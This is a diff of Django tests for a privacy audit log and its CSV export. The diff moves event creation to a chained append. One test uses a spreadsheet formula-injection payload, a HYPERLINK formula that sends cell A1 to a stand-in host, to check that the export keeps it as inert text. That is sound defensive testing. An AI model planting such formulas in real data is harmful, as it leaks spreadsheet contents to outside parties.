@@ -9,6 +9,7 @@ from django.core.exceptions import PermissionDenied
 from django.utils import timezone
 
 from naast.accounts.roles import Role
+from naast.privacy import chain
 from naast.privacy.models import AuditEvent
 
 pytestmark = pytest.mark.django_db
@@ -133,10 +134,10 @@ def test_the_export_has_local_times_and_readable_labels_as_on_the_page(audited, 
     from datetime import UTC, datetime
 
     event, hr = audited
-    AuditEvent.objects.create(
+    chain.append([dict(
         at=datetime(2026, 11, 23, 19, 24, 8, tzinfo=UTC), username="lotte", roles="privacy_officer,supporter",
         action="change", object_type="registry.helprequest", object_id="1", object_label="HV-TEST",
-    )
+    )])
     officer = login(f.user(Role.PRIVACY_OFFICER))
     page = officer.get("/staff/privacy/audit/", {"reference": "HV-TEST"}).content.decode()
     assert "20:24:08" in page and "Privacyfunctionaris, Cliëntondersteuner" in page
@@ -151,8 +152,8 @@ def test_the_export_has_local_times_and_readable_labels_as_on_the_page(audited, 
 
 
 def _event(reason: str, label: str) -> None:
-    AuditEvent.objects.create(at=timezone.now(), username="lotte", roles="coordinator", action="read",
-                              object_type="registry.helprequest", object_id="1", object_label=label, reason=reason)
+    chain.append([dict(at=timezone.now(), username="lotte", roles="coordinator", action="read",
+                              object_type="registry.helprequest", object_id="1", object_label=label, reason=reason)])
 
 
 def test_audit_log_shows_reasons_in_words_and_keeps_unknown_reasons(f, login):
@@ -189,9 +190,9 @@ def test_audit_export_keeps_the_reason_code_and_adds_its_label(f, login):
 
 def test_a_reason_or_user_name_typed_as_a_formula_stays_text_in_the_export(f, login):
     formula = '=HYPERLINK("http://e.example/?"&A1,"Klik")'
-    AuditEvent.objects.create(at=timezone.now(), username="@beheer", roles="coordinator", action="change",
+    chain.append([dict(at=timezone.now(), username="@beheer", roles="coordinator", action="change",
                               object_type="registry.helprequest", object_id="7", object_label="HV-FORM",
-                              client_id=42, reason=formula)
+                              client_id=42, reason=formula)])
     officer = login(f.user(Role.PRIVACY_OFFICER))
     response = officer.get("/staff/privacy/audit/export.csv", {"reference": "HV-FORM"})
     rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
